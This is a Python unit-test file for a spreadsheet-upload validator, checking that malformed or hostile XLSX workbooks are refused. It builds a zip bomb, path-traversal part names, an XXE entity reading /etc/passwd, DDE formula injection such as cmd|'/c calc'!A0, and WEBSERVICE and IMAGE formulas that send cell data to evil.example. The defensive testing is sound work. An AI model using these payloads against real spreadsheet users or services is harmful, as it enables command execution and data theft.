"""A workbook that could do harm, or that nobody could fill rightly, is refused in words."""

import struct
import zipfile
from collections.abc import Callable
from io import BytesIO

import openpyxl
import pytest
import xlsxwriter

from tasks.errors import Invalid
from tasks.reports.workbooks.book import MOST_SHEETS
from tasks.reports.workbooks.findings import examined
from tasks.reports.workbooks.package import MOST_BYTES
from tests.unit.workbooks.changing import changed, replacing
from tests.unit.workbooks.samples import with_headings, with_table

BROKEN = "is no Excel workbook"
RELATION = (
    b'<Relationship Id="x9" Type="http://x/relationships/%s" Target="%s" TargetMode="%s"/></R'
)
TYPE = b'<Override PartName="/%s" ContentType="application/%s"/></Types>'


def adding(name: str, content: bytes = b"x", kind: bytes = b"xml") -> bytes:
    """A part more, with a type of its own."""
    told = TYPE % (name.encode(), kind)
    return changed(replacing("[Content_Types].xml", b"</Types>", told), add={name: content})


def related(kind: bytes, target: bytes, mode: bytes = b"External") -> bytes:
    part = "xl/_rels/workbook.xml.rels"
    return changed(replacing(part, b"</R", RELATION % (kind, target, mode)))


def in_sheet(old: bytes, new: bytes) -> bytes:
    return changed(replacing("xl/worksheets/sheet2.xml", old, new))


def bomb() -> bytes:
    return adding("xl/media/image1.png", b"\0" * 101_000_000)


def lying_about_its_size() -> bytes:
    """A zip whose list says that the part is small."""
    content = bytearray(changed(lambda _, part: part))
    at = content.rfind(b"PK\1\2")
    content[at + 24 : at + 28] = struct.pack("<I", 5)
    return bytes(content)


def book_of(make: Callable[[openpyxl.Workbook], None]) -> bytes:
    book, file = openpyxl.load_workbook(BytesIO(with_headings(names="$B$4:$D$5"))), BytesIO()
    make(book)
    book.save(file)
    return file.getvalue()


def two_tables() -> bytes:
    file = BytesIO()
    book = xlsxwriter.Workbook(file)
    sheet = book.add_worksheet()
    sheet.add_table("A1:B3", {"name": "One"})
    sheet.add_table("D1:E5", {"name": "Two"})
    book.close()
    return file.getvalue()


def of_sheets(count: int) -> bytes:
    def add(book: openpyxl.Workbook) -> None:
        for n in range(count):
            book.create_sheet(f"S{n}")

    return book_of(add)


DTD = b'<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b SYSTEM "file:///etc/passwd">]><worksheet'
HOSTILE: dict[str, tuple[Callable[[], bytes], str]] = {
    "nothing": (lambda: b"", BROKEN),
    "a text": (lambda: b"Code;Net\n1;2\n", BROKEN),
    "another zip": (lambda: bare({"a.txt": b"x"}), BROKEN),
    "an old workbook": (lambda: b"\xd0\xcf\x11\xe0" + b"\0" * 512, "old workbook"),
    "half a file": (lambda: with_table()[:9_000], BROKEN),
    "larger than allowed": (lambda: b"PK" + b"\0" * MOST_BYTES, "larger than 10 MB"),
    "a bomb": (bomb, "larger than 100 MB unpacked"),
    "a lie about sizes": (lying_about_its_size, BROKEN),
    "a way out": (lambda: adding("../../etc/cron.d/x"), BROKEN),
    "a way out, backwards": (lambda: adding("xl\\..\\x.xml"), BROKEN),
    "an absolute name": (lambda: adding("/etc/passwd"), BROKEN),
    "a part twice": (lambda: adding("xl/WORKBOOK.xml"), BROKEN),
    "a name of other letters": (lambda: adding("xl/ş.xml"), BROKEN),
    "thousands of parts": (
        lambda: changed(lambda _, part: part, add={f"xl/{n}.xml": b"<a/>" for n in range(2_100)}),
        BROKEN,
    ),
    "macros": (lambda: adding("xl/vbaProject.bin", kind=b"vnd.ms-office.vbaProject"), "macros"),
    "a workbook with macros": (
        lambda: changed(
            replacing(
                "[Content_Types].xml",
                b"vnd.openxmlformats-officedocument.spreadsheetml.sheet.main",
                b"vnd.ms-excel.sheet.macroEnabled.main",
            )
        ),
        "macros",
    ),
    "an old macro sheet": (
        lambda: adding("xl/macrosheets/sheet1.xml", kind=b"vnd.ms-excel.macrosheet+xml"),
        "macros",
    ),
    "an object": (
        lambda: adding("xl/embeddings/oleObject1.bin", kind=b"vnd.openxml.oleObject"),
        "object of another program",
    ),
    "a control": (
        lambda: adding("xl/activeX/activeX1.xml", kind=b"vnd.ms-office.activeX+xml"),
        "object of another program",
    ),
    "a connection": (
        lambda: adding("xl/connections.xml", kind=b"vnd.x.connections+xml"),
        "reads from other files",
    ),
    "a link to a file": (
        lambda: adding("xl/externalLinks/externalLink1.xml", kind=b"vnd.x.externalLink+xml"),
        "reads from other files",
    ),
    "a picture from elsewhere": (
        lambda: related(b"image", b"http://evil.example.com/x.png"),
        "reads from other files",
    ),
    "a template from elsewhere": (
        lambda: related(b"attachedTemplate", b"file:///x.xltm"),
        "reads from other files",
    ),
    "a call of a program": (
        lambda: in_sheet(b"SUM(C4:C5)+C6", b"cmd|'/c calc'!A0"),
        "reads from other files",
    ),
    "a call without quotes": (
        lambda: in_sheet(b"SUM(C4:C5)+C6", b"1+excel|book!A0"),
        "reads from other files",
    ),
    "a call in disguise": (
        lambda: in_sheet(b"SUM(C4:C5)+C6", b"cmd&#124;'/c calc'!A0"),
        "reads from other files",
    ),
    "a question to a machine": (
        lambda: in_sheet(b"SUM(C4:C5)+C6", b'_xlfn.WEBSERVICE("https://evil.example/"&amp;C4)'),
        "reads from other files",
    ),
    "a picture by formula": (
        lambda: in_sheet(b"SUM(C4:C5)+C6", b'_xlfn.IMAGE ("https://evil.example/"&amp;C4)'),
        "reads from other files",
    ),
    "a call in a name": (
        lambda: changed(
            replacing("xl/workbook.xml", b"'My Data'!$C$4:$C$5<", b"cmd|'/c calc'!A0<")
        ),
        "reads from other files",
    ),
    "a call in a rule": (
        lambda: in_sheet(b"<formula>1000</formula>", b"<formula>cmd|'/c x'!A0</formula>"),
        "reads from other files",
    ),
    "a call in a column": (
        lambda: changed(
            replacing(
                "xl/tables/table1.xml",
                b"<calculatedColumnFormula>",
                b"<calculatedColumnFormula>RTD(1)+",
            )
        ),
        "reads from other files",
    ),
    "a part of no known type": (lambda: adding("xl/x.exe", kind=b"octet-stream"), "cannot have"),
    "a part without a type": (
        lambda: changed(lambda _, part: part, add={"xl/x.bin": b"x"}),
        "cannot have",
    ),
    "a document type": (lambda: in_sheet(b"<worksheet", DTD), "document type"),
    "XML that does not end": (lambda: in_sheet(b"</worksheet>", b""), "is broken"),
    "a part of 30 MB": (
        lambda: in_sheet(b"</sheetData>", b"</sheetData><!--" + b"x" * 30_000_000 + b"-->"),
        "larger than 20 MB unpacked",
    ),
    "rows in no order": (lambda: in_sheet(b'<row r="3"', b'<row r="99"'), BROKEN),
    "a table that lies": (
        lambda: changed(replacing("xl/tables/table1.xml", b'ref="A3:E6"', b'ref="A3:D6"')),
        BROKEN,
    ),
    "a sheet too many": (lambda: of_sheets(MOST_SHEETS), "more than 200 sheets"),
    "no place for rows": (
        lambda: book_of(lambda book: book.defined_names.pop("Rows")),
        "Nothing in the workbook says where",
    ),
    "headings that are empty": (lambda: with_headings(names="$J$4:$L$5"), "hold no headings"),
    "cells beside the rows": (
        lambda: book_of(lambda book: book["Liste"].__setitem__("H5", "note")),
        "H5 stands beside the rows",
    ),
    "merged cells in the rows": (
        lambda: book_of(lambda book: book["Liste"].merge_cells("B5:C5")),
        "B5:C5 are merged",
    ),
    "a formula fixed to the rows": (
        lambda: book_of(lambda book: book["Liste"].__setitem__("E5", "=D5/SUM(D$5:D$5)")),
        "formula in E5",
    ),
    "a formula shared with cells below": (
        lambda: in_sheet(
            b"<f>Sales[[#This Row],[Net]]*0.2</f>",
            b'<f t="shared" ref="D4:D9" si="0">C4*2</f>',
        ),
        "D4:D9 stands beside the rows",
    ),
    "a table beside the rows": (two_tables, "several tables"),
}


def bare(parts: dict[str, bytes]) -> bytes:
    file = BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return file.getvalue()


@pytest.mark.parametrize("name", HOSTILE)
def test_it_is_refused_in_words(name: str) -> None:
    make, said = HOSTILE[name]
    with pytest.raises(Invalid, match=said) as refused:
        examined(make()).check_has_place()
    assert refused.value.field in ("file", "template_table")


def test_a_note_below_the_rows_is_refused_and_one_above_is_not() -> None:
    from openpyxl.comments import Comment

    def noted(cell: str) -> bytes:
        def note(book: openpyxl.Workbook) -> None:
            book["Liste"][cell].comment = Comment("Look", "me")

        return book_of(note)

    examined(noted("B2")).check_has_place()
    with pytest.raises(Invalid, match="A note or a pivot table at B9"):
        examined(noted("B9")).check_has_place()


def test_words_that_only_look_like_a_call_are_let_through() -> None:
    sound = b"IF(C4=&quot;a|b CALL(x)&quot;,RECALL,C4)"
    examined(in_sheet(b"SUM(C4:C5)+C6", sound)).check_has_place()


def test_what_is_sound_is_found() -> None:
    found = examined(with_table())
    found.check_has_place()
    assert list(found.sheets) == ["Dashboard", "My Data"]
    assert [one.name for one in found.tables] == ["Sales"]
    wanted = ["Customer", "Date", "Net", "VAT", "Code"]
    assert found.target is not None
    assert [one.header for one in found.target.columns] == wanted
    assert sorted(found.filled_names) == ["Date", "Parameters", "Row_count", "Title", "Total_Net"]
    assert found.other_names == ["Nets"]
